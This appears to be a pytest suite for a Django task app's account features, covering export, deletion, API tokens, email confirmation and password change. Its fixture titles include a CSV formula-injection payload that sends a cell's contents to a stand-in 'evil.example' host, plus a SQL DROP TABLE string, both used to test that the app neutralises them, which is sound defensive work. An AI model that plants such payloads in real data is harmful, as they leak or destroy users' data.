"""The account pages: the account page's links, export, deletion, tokens."""

import csv
import io
import json
import re
from datetime import date, datetime, time, timedelta

import pytest
from django.contrib.auth import get_user_model
from django.test import Client

from accounts.models import AccessToken, Profile, UserSession
from tasks.models import Task
from tests.factories import PASSWORD, make_tasks
from tests.pages import form_fields

pytestmark = pytest.mark.django_db

EXPORT_FIELDS = [
    "id", "title", "description", "completed", "created_at", "updated_at", "list_id",
    "due_date", "due_time", "recurrence", "recur_from",
]  # fmt: skip
AWKWARD_TITLES = [
    "Plain",
    "Comma, inside",
    'Say "hello"',
    "Line one\nline two",
    "Carriage\r\nreturn",
    "Ünïcödé — 漢字 😀",
    "=1+1",
    "  padded  ",
    "'; DROP TABLE tasks_task; --",
    # Formulas to a spreadsheet (the forms trim the last two's white space;
    # the ORM, and so this fixture, does not).
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1",
    "-1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
DUE_FIELDS = ["due_date", "due_time", "recurrence", "recur_from"]


def csv_text(response) -> str:
    raw = b"".join(response.streaming_content)
    assert raw.startswith("\ufeff".encode()), "no UTF-8 byte-order mark"
    return raw.decode("utf-8")


def exported_csv(response) -> list[dict]:
    text = csv_text(response).removeprefix("\ufeff")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def as_csv_cell(value: str) -> str:
    """The contract's rule: a cell a spreadsheet would run gets a "'"."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


@pytest.fixture
def awkward_tasks(user) -> list[Task]:
    tasks = Task.objects.for_user(user)
    created = [
        tasks.create(title=title, description=f'About {title!r},\n"quoted"')
        for title in AWKWARD_TITLES
    ]
    tasks.toggle(created[1].pk)
    return list(Task.objects.for_user(user))


# --- The account page ----------------------------------------------------------


def test_account_page_links_to_everything_about_the_account(alice_client):
    response = alice_client.get("/accounts/")
    assert response.status_code == 200
    body = response.content.decode()
    for href in [
        "/accounts/password_change/",
        "/accounts/tokens/",
        "/accounts/export.json",
        "/accounts/export.csv",
        "/accounts/delete/",
    ]:
        assert f'href="{href}"' in body, href


def test_every_page_links_to_the_account_page(alice_client):
    assert 'href="/accounts/"' in alice_client.get("/tasks/").content.decode()


# --- Export --------------------------------------------------------------------------


def test_json_export_holds_every_task_of_mine_as_the_api_shows_it(
    alice_client, awkward_tasks, other_task
):
    response = alice_client.get("/accounts/export.json")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"] == 'attachment; filename="tasks.json"'
    text = response.content.decode("utf-8")
    # UTF-8 text: non-ASCII as itself, never as a \u escape.
    assert "\\u" not in text
    assert "Ünïcödé — 漢字 😀" in text
    rows = json.loads(text)
    assert [list(row) for row in rows] == [EXPORT_FIELDS] * len(awkward_tasks)
    by_id = {row["id"]: row for row in rows}
    assert set(by_id) == {task.pk for task in awkward_tasks}
    assert other_task.pk not in by_id
    for task in awkward_tasks:
        # The API's task object, byte for byte the same values.
        assert by_id[task.pk] == alice_client.get(f"/api/tasks/{task.pk}").json()
        assert by_id[task.pk]["title"] == task.title


def test_csv_export_round_trips_commas_quotes_newlines_and_unicode(
    alice_client, awkward_tasks, other_task
):
    response = alice_client.get("/accounts/export.csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="tasks.csv"'
    rows = exported_csv(response)
    assert len(rows) == len(awkward_tasks)
    assert list(rows[0]) == EXPORT_FIELDS
    by_id = {int(row["id"]): row for row in rows}
    assert other_task.pk not in by_id
    for task in awkward_tasks:
        row = by_id[task.pk]
        api = alice_client.get(f"/api/tasks/{task.pk}").json()
        assert row["title"] == as_csv_cell(task.title)
        assert row["description"] == as_csv_cell(task.description)
        assert row["completed"] == ("true" if task.completed else "false")
        # ISO 8601 UTC, as the API writes them.
        assert row["created_at"] == api["created_at"]
        assert row["updated_at"] == api["updated_at"]
        assert datetime.fromisoformat(row["updated_at"]).utcoffset() == timedelta(0)


def test_csv_export_prefixes_every_cell_a_spreadsheet_would_run(
    alice_client, awkward_tasks
):
    titles = {
        row["title"] for row in exported_csv(alice_client.get("/accounts/export.csv"))
    }
    assert {
        """'=HYPERLINK("http://evil.example/?"&A1,"Click")""",
        "'+1",
        "'-1",
        "'@SUM(A1:A2)",
        "'\t=1+1",
        "'\r=1+1",
        "'=1+1",
        # Anything else is left as it is.
        "Comma, inside",
        "'; DROP TABLE tasks_task; --",
    } <= titles
    assert not any(title.startswith(FORMULA_STARTS) for title in titles)


def test_exports_write_the_due_fields_as_the_api_does(alice_client, user):
    tasks = Task.objects.for_user(user)
    due = tasks.create(
        title="Due",
        due_date=date(2026, 12, 24),
        due_time=time(9, 30, 15),  # seconds, as the HTML form may store
        recurrence="FREQ=WEEKLY;BYDAY=TH",
        recur_from="completion",
    )
    plain = tasks.create(title="Plain")
    api = {
        task.pk: alice_client.get(f"/api/tasks/{task.pk}").json()
        for task in (due, plain)
    }

    rows = json.loads(alice_client.get("/accounts/export.json").content)
    assert {row["id"]: row for row in rows} == api
    assert api[due.pk]["due_time"] == "09:30"
    assert api[plain.pk]["recurrence"] is None

    cells = {
        int(row["id"]): {name: row[name] for name in DUE_FIELDS}
        for row in exported_csv(alice_client.get("/accounts/export.csv"))
    }
    assert cells == {
        due.pk: {
            "due_date": "2026-12-24",
            "due_time": "09:30",
            "recurrence": "FREQ=WEEKLY;BYDAY=TH",
            "recur_from": "completion",
        },
        # No value: an empty cell, never "None".
        plain.pk: {
            "due_date": "",
            "due_time": "",
            "recurrence": "",
            "recur_from": "due",
        },
    }


def test_exports_of_a_user_without_tasks_are_empty_but_well_formed(alice_client):
    assert json.loads(alice_client.get("/accounts/export.json").content) == []
    response = alice_client.get("/accounts/export.csv")
    assert csv_text(response) == "\ufeff" + ",".join(EXPORT_FIELDS) + "\r\n"


def test_json_export_costs_two_queries_whatever_the_number_of_tasks(
    alice_client, user, django_assert_num_queries
):
    # The session with its user, then the tasks: no query per task.
    make_tasks(user, 3)
    with django_assert_num_queries(2):
        alice_client.get("/accounts/export.json")
    make_tasks(user, 120)
    with django_assert_num_queries(2):
        response = alice_client.get("/accounts/export.json")
    assert len(json.loads(response.content)) == 123


def test_csv_export_streams_every_task(alice_client, user, django_assert_num_queries):
    make_tasks(user, 1200)  # more than one chunk of the iterator
    with django_assert_num_queries(2):
        rows = exported_csv(alice_client.get("/accounts/export.csv"))
    assert len(rows) == 1200
    assert len({row["id"] for row in rows}) == 1200


@pytest.mark.parametrize("path", ["/accounts/export.json", "/accounts/export.csv"])
def test_exports_are_get_only(alice_client, task, path):
    assert alice_client.post(path).status_code == 405


# --- Deleting the account --------------------------------------------------------


def test_delete_asks_to_confirm_with_the_password(alice_client, user, task):
    response = alice_client.get("/accounts/delete/")
    assert response.status_code == 200
    body = response.content.decode()
    assert 'type="password"' in body
    assert '<label for="id_password">' in body
    assert "cannot be undone" in body
    assert get_user_model().objects.filter(pk=user.pk).exists()


def test_delete_with_a_wrong_password_shows_the_error_by_the_field_and_keeps_all(
    alice_client, user, task
):
    AccessToken.objects.issue(user, "laptop")

    response = alice_client.post("/accounts/delete/", {"password": "not-it"})

    assert response.status_code == 200
    body = response.content.decode()
    # In the password field's own block (the form's only field), after its input.
    start = body.index('<div class="field has-error">')
    field = body[start : body.index('<div class="actions">', start)]
    assert field.index('id="id_password"') < field.index('id="id_password_error"')
    assert "That is not your password." in field
    assert get_user_model().objects.filter(pk=user.pk).exists()
    assert Task.objects.for_user(user).filter(pk=task.pk).exists()
    assert AccessToken.objects.for_user(user).count() == 1
    assert alice_client.get("/tasks/").status_code == 200


def test_delete_with_the_right_password_removes_the_account_and_all_it_owns(
    alice_client, user, task, other_user, other_task
):
    _, raw = AccessToken.objects.issue(user, "laptop")
    other_browser = Client()
    other_browser.force_login(user)
    user_id = user.pk

    response = alice_client.post(
        "/accounts/delete/", {"password": PASSWORD}, follow=True
    )

    assert response.redirect_chain == [("/accounts/login/", 302)]
    assert "Your account and all its tasks were deleted." in response.content.decode()
    assert not get_user_model().objects.filter(pk=user_id).exists()
    assert not Task.unscoped.filter(user_id=user_id).exists()
    assert not AccessToken.objects.filter(user_id=user_id).exists()
    assert not UserSession.objects.filter(user_id=user_id).exists()
    # Logged out here, and in every other browser; the token is dead too.
    assert alice_client.get("/tasks/").status_code == 302
    assert other_browser.get("/tasks/").status_code == 302
    api = Client(headers={"Authorization": f"Bearer {raw}"})
    assert api.get("/api/tasks").status_code == 401
    # Nobody else's data went with it.
    assert Task.objects.for_user(other_user).filter(pk=other_task.pk).exists()


def test_delete_is_not_reachable_by_get(alice_client, user):
    alice_client.get("/accounts/delete/", {"password": PASSWORD})
    assert get_user_model().objects.filter(pk=user.pk).exists()


# --- Tokens ----------------------------------------------------------------------


def new_token_of(response) -> str | None:
    match = re.search(r'id="new-token">([^<]+)<', response.content.decode())
    return match[1] if match else None


def test_creating_a_token_shows_its_value_once(alice_client, user):
    response = alice_client.post("/accounts/tokens/", {"name": "laptop script"})

    assert response.status_code == 200
    raw = new_token_of(response)
    assert raw
    assert "no-store" in response["Cache-Control"]
    assert AccessToken.objects.authenticate(raw) == user
    token = AccessToken.objects.for_user(user).get()
    assert token.name == "laptop script"
    assert raw not in (token.token_hash, token.name)

    again = alice_client.get("/accounts/tokens/")
    assert new_token_of(again) is None
    assert raw not in again.content.decode()


def test_the_token_list_shows_name_created_and_last_used(alice_client, user):
    _, raw = AccessToken.objects.issue(user, "ci job")
    body = alice_client.get("/accounts/tokens/").content.decode()
    assert "<td>ci job</td>" in body
    assert body.count("<time datetime=") == 1  # created; never used yet
    assert "Never" in body

    Client(headers={"Authorization": f"Bearer {raw}"}).get("/api/tasks")

    body = alice_client.get("/accounts/tokens/").content.decode()
    assert body.count("<time datetime=") == 2
    assert "Never" not in body


def test_the_token_list_shows_only_my_tokens(alice_client, user, other_user):
    AccessToken.objects.issue(other_user, "bob's secret job")
    assert (
        "bob&#x27;s secret job"
        not in alice_client.get("/accounts/tokens/").content.decode()
    )


def test_a_token_without_a_name_is_refused_with_an_error(alice_client, user):
    response = alice_client.post("/accounts/tokens/", {"name": "   "})
    assert response.status_code == 200
    assert 'id="id_name_error"' in response.content.decode()
    assert new_token_of(response) is None
    assert not AccessToken.objects.for_user(user).exists()


def test_revoking_a_token_deletes_it_and_it_stops_working(alice_client, user):
    token, raw = AccessToken.objects.issue(user, "old")

    response = alice_client.post(f"/accounts/tokens/{token.pk}/revoke/", follow=True)

    assert response.redirect_chain == [("/accounts/tokens/", 302)]
    assert "Token revoked." in response.content.decode()
    assert not AccessToken.objects.filter(pk=token.pk).exists()
    api = Client(headers={"Authorization": f"Bearer {raw}"})
    assert api.get("/api/tasks").status_code == 401


def test_revoking_another_users_token_is_404_and_changes_nothing(
    alice_client, other_user
):
    token, raw = AccessToken.objects.issue(other_user, "bob's")

    response = alice_client.post(f"/accounts/tokens/{token.pk}/revoke/")

    assert response.status_code == 404
    assert AccessToken.objects.filter(pk=token.pk).exists()
    assert AccessToken.objects.authenticate(raw) == other_user


def test_revoking_a_missing_token_is_404(alice_client):
    assert alice_client.post("/accounts/tokens/999999/revoke/").status_code == 404


def test_revoke_asks_to_confirm_on_get_and_changes_nothing(alice_client, user):
    token, raw = AccessToken.objects.issue(user, "kept")

    response = alice_client.get(f"/accounts/tokens/{token.pk}/revoke/")

    assert response.status_code == 200
    body = response.content.decode()
    assert "Revoke “kept”" in body
    # The form posts back to this URL, the revoke.
    assert re.search(r'<form method="post">.*>Revoke</button>', body, re.S)
    assert AccessToken.objects.authenticate(raw) == user


def test_the_token_list_links_each_revoke_to_its_confirm_page(alice_client, user):
    token, _ = AccessToken.objects.issue(user, "ci job")
    body = alice_client.get("/accounts/tokens/").content.decode()
    assert f'href="/accounts/tokens/{token.pk}/revoke/"' in body


def test_the_revoke_confirm_page_of_another_users_token_is_404(
    alice_client, other_user
):
    token, raw = AccessToken.objects.issue(other_user, "bob's")
    response = alice_client.get(f"/accounts/tokens/{token.pk}/revoke/")
    assert response.status_code == 404
    assert "bob" not in response.content.decode()
    assert AccessToken.objects.authenticate(raw) == other_user


def test_the_revoke_confirm_page_budget(
    alice_client, user, django_assert_max_num_queries
):
    token, _ = AccessToken.objects.issue(user, "kept")
    # The session with its user, then the token.
    with django_assert_max_num_queries(2):
        alice_client.get(f"/accounts/tokens/{token.pk}/revoke/")


def test_token_page_budget(alice_client, user, django_assert_max_num_queries):
    for n in range(5):
        AccessToken.objects.issue(user, f"token {n}")
    # The session with its user, then the tokens.
    with django_assert_max_num_queries(2):
        assert alice_client.get("/accounts/tokens/").status_code == 200


# --- Email address and password recovery -------------------------------------------

CONFIRM_LINK = re.compile(r"https?://testserver(/accounts/email/confirm/[^/\s]+/)")


def confirmation_link(mail) -> str:
    return CONFIRM_LINK.search(mail.body)[1]


def sign_up(client, email: str = "") -> Client:
    response = client.post(
        "/accounts/signup/",
        {
            "username": "carol",
            "email": email,
            "password1": PASSWORD,
            "password2": PASSWORD,
        },
    )
    assert response.status_code == 302
    return get_user_model().objects.get(username="carol")


def test_signup_offers_an_optional_email_and_says_what_is_lost_without_it(client):
    response = client.get("/accounts/signup/")
    body = response.content.decode()
    assert form_fields(response, "/accounts/signup/") == [
        "username",
        "email",
        "password1",
        "password2",
        "time_zone",  # hidden, filled from the browser
    ]
    assert '<label for="id_email">Email address (optional):</label>' in body
    assert "a forgotten password cannot be recovered" in body


def test_signup_without_email_creates_the_account_and_mails_nothing(client, mailoutbox):
    carol = sign_up(client)
    assert carol.email == ""
    assert mailoutbox == []


def test_signup_with_email_mails_a_link_and_the_address_waits_for_it(
    client, mailoutbox
):
    carol = sign_up(client, "carol@example.com")

    (mail,) = mailoutbox
    assert mail.to == ["carol@example.com"]
    assert carol.email == ""  # not used until the link is opened
    link = confirmation_link(mail)

    page = client.get(link)
    assert page.status_code == 200
    assert "carol@example.com" in page.content.decode()
    carol.refresh_from_db()
    assert carol.email == ""  # a GET changes nothing

    response = client.post(link, follow=True)
    assert response.redirect_chain == [("/accounts/", 302)]
    assert "Your email address is now carol@example.com." in response.content.decode()
    carol.refresh_from_db()
    assert carol.email == "carol@example.com"


def test_a_reset_for_an_unconfirmed_address_sends_nothing(client, mailoutbox):
    sign_up(client, "carol@example.com")
    assert len(mailoutbox) == 1  # the confirmation link, not opened

    response = Client().post(
        "/accounts/password_reset/", {"email": "carol@example.com"}
    )

    assert response.status_code == 302
    assert len(mailoutbox) == 1


def test_the_account_page_changes_the_email_only_once_confirmed(
    alice_client, user, mailoutbox
):
    user.email = "alice@example.com"
    user.save()
    page = alice_client.get("/accounts/").content.decode()
    assert "alice@example.com" in page
    assert '<label for="id_email">New email address:</label>' in page

    response = alice_client.post(
        "/accounts/email/", {"email": "alice@new.example"}, follow=True
    )

    assert response.redirect_chain == [("/accounts/", 302)]
    assert "We sent a link to alice@new.example." in response.content.decode()
    (mail,) = mailoutbox
    assert mail.to == ["alice@new.example"]
    user.refresh_from_db()
    assert user.email == "alice@example.com"
    # Reset mail still goes to the confirmed address only.
    Client().post("/accounts/password_reset/", {"email": "alice@new.example"})
    assert len(mailoutbox) == 1

    alice_client.post(confirmation_link(mail))
    user.refresh_from_db()
    assert user.email == "alice@new.example"


def test_an_invalid_email_is_refused_by_the_field(alice_client, user, mailoutbox):
    response = alice_client.post("/accounts/email/", {"email": "not an address"})
    assert response.status_code == 200
    assert 'id="id_email_error"' in response.content.decode()
    assert mailoutbox == []


def test_changing_the_email_is_post_only(alice_client, mailoutbox):
    response = alice_client.get("/accounts/email/", {"email": "x@example.com"})
    assert response.status_code == 405
    assert mailoutbox == []


def _link_for(client, user, mailoutbox, email="alice@new.example") -> str:
    client.post("/accounts/email/", {"email": email})
    return confirmation_link(mailoutbox[-1])


def _refused(client, link, message) -> None:
    for response in (client.get(link), client.post(link)):
        assert response.status_code == 400
        assert message in response.content.decode()


def test_a_tampered_confirmation_link_is_refused_and_changes_nothing(
    alice_client, user, mailoutbox
):
    link = _link_for(alice_client, user, mailoutbox)
    token = link.split("/")[-2]
    # The payload (base64 JSON) says which address: change one character.
    forged = token.replace(token[5], "A" if token[5] != "A" else "B", 1)

    _refused(alice_client, link.replace(token, forged), "This link is not valid")
    _refused(alice_client, link[:-20] + "/", "This link is not valid")
    user.refresh_from_db()
    assert user.email == ""


def test_an_expired_confirmation_link_is_refused(
    alice_client, user, mailoutbox, settings
):
    link = _link_for(alice_client, user, mailoutbox)
    settings.PASSWORD_RESET_TIMEOUT = -1  # every link is older than that

    _refused(alice_client, link, "This link has expired.")
    user.refresh_from_db()
    assert user.email == ""


def test_a_confirmation_link_works_only_for_its_account_and_once(
    alice_client, user, other_user, mailoutbox
):
    link = _link_for(alice_client, user, mailoutbox)
    bob = Client()
    bob.force_login(other_user)

    _refused(bob, link, "This link was sent for another account.")
    other_user.refresh_from_db()
    assert other_user.email == ""

    alice_client.post(link)
    second = _link_for(alice_client, user, mailoutbox, "alice@third.example")
    alice_client.post(second)
    user.refresh_from_db()
    assert user.email == "alice@third.example"
    # The first link is spent: it cannot bring the old address back.
    _refused(alice_client, link, "already been used")


def test_an_anonymous_confirmation_link_asks_to_log_in_first(
    alice_client, user, mailoutbox
):
    link = _link_for(alice_client, user, mailoutbox)
    response = Client().get(link)
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/?next=")


@pytest.mark.parametrize(
    ("path", "says"),
    [
        (
            "/accounts/password_reset/",
            "We mail a reset link only to an address confirmed",
        ),
        ("/accounts/password_reset/done/", "Mail goes only to confirmed addresses"),
    ],
)
def test_the_reset_pages_say_mail_goes_to_confirmed_addresses_only(client, path, says):
    assert says in client.get(path).content.decode()


# --- Password change: other sessions and tokens -------------------------------------

NEW_PASSWORD = "a-brand-new-passphrase-42"


def change_password(client, **extra):
    return client.post(
        "/accounts/password_change/",
        {
            "old_password": PASSWORD,
            "new_password1": NEW_PASSWORD,
            "new_password2": NEW_PASSWORD,
            **extra,
        },
        follow=True,
    )


def test_password_change_signs_out_other_sessions_and_keeps_this_one(
    alice_client, user
):
    other_browser = Client()
    other_browser.force_login(user)
    _, raw = AccessToken.objects.issue(user, "laptop")

    response = change_password(alice_client)

    assert response.redirect_chain == [("/accounts/password_change/done/", 302)]
    assert "signed out" in response.content.decode()
    # The other session's row is gone, not merely refused: one row is left.
    assert UserSession.objects.filter(user=user).count() == 1
    assert other_browser.get("/tasks/").status_code == 302
    assert alice_client.get("/tasks/").status_code == 200
    # Not asked to, so the token still works.
    api = Client(headers={"Authorization": f"Bearer {raw}"})
    assert api.get("/api/tasks").status_code == 200


def test_password_change_offers_to_revoke_every_api_token(
    alice_client, user, other_user
):
    form = alice_client.get("/accounts/password_change/").content.decode()
    assert 'type="checkbox" name="revoke_tokens"' in form
    assert "Also revoke all my API tokens" in form
    raws = [AccessToken.objects.issue(user, f"t{n}")[1] for n in range(2)]
    _, bobs = AccessToken.objects.issue(other_user, "bob's")

    response = change_password(alice_client, revoke_tokens="on")

    assert "All your API tokens were revoked." in response.content.decode()
    for raw in raws:
        api = Client(headers={"Authorization": f"Bearer {raw}"})
        assert api.get("/api/tasks").status_code == 401
    assert AccessToken.objects.authenticate(bobs) == other_user


def test_a_failed_password_change_signs_out_nothing_and_revokes_nothing(
    alice_client, user
):
    other_browser = Client()
    other_browser.force_login(user)
    AccessToken.objects.issue(user, "kept")

    alice_client.post(
        "/accounts/password_change/",
        {
            "old_password": "not-it",
            "new_password1": NEW_PASSWORD,
            "new_password2": NEW_PASSWORD,
            "revoke_tokens": "on",
        },
    )

    assert other_browser.get("/tasks/").status_code == 200
    assert AccessToken.objects.for_user(user).count() == 1


# --- Tokens: how the page shows them ---------------------------------------------


@pytest.mark.in_process(
    "finds static files by their source names; collectstatic serves hashed ones"
)
def test_a_new_token_is_shown_as_a_success_with_a_copy_button(alice_client):
    response = alice_client.post("/accounts/tokens/", {"name": "laptop"})
    body = response.content.decode()
    box = body[body.index('class="success-box"') :]
    box = box[: box.index("</div>")]
    assert 'id="new-token"' in box
    assert "form-errors" not in body  # the error style is for errors
    # The button is revealed by the script (hidden without JavaScript), which
    # is a static file: the CSP allows no inline script or handler.
    assert re.search(r'<p class="copy" hidden>\s*<button type="button"', box)
    assert 'data-copy="new-token"' in box
    assert re.search(r'<script src="[^"]*/js/copy\.js" defer></script>', body)
    assert " onclick=" not in body


def test_token_times_carry_the_zone_abbreviation(alice_client, user, settings):
    _, raw = AccessToken.objects.issue(user, "ci job")
    Client(headers={"Authorization": f"Bearer {raw}"}).get("/api/tasks")
    body = alice_client.get("/accounts/tokens/").content.decode()
    shown = re.findall(r"<time datetime=\"[^\"]+\">([^<]+)</time>", body)
    assert len(shown) == 2  # created, last used
    assert all(text.endswith(" UTC") for text in shown), shown

    # The user's zone, whatever the server's.
    settings.TIME_ZONE = "Asia/Tokyo"
    Profile.objects.filter(user=user).update(time_zone="America/New_York")
    body = alice_client.get("/accounts/tokens/").content.decode()
    shown = re.findall(r"<time datetime=\"[^\"]+\">([^<]+)</time>", body)
    assert all(text.endswith((" EST", " EDT")) for text in shown), shown
